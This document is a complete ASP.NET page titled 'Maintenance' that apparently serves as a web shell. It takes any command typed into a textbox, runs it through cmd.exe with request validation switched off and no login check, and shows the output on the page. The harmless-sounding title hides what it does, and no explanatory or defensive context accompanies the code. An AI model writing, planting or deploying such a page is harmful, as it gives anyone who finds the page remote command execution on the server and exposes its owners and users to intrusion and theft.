<%@ Page Language="C#" AutoEventWireup="true" ValidateRequest="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void btnRun_Click(object sender, EventArgs e)
    {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + txtCmd.Text;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        litOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
    }
</script>
<html>
<head><title>Maintenance</title></head>
<body style="font-family:Consolas,monospace">
<form id="f" runat="server">
    <asp:TextBox ID="txtCmd" runat="server" Width="600px" />
    <asp:Button ID="btnRun" runat="server" Text="Run" OnClick="btnRun_Click" />
    <pre><asp:Literal ID="litOut" runat="server" /></pre>
</form>
</body>
</html>
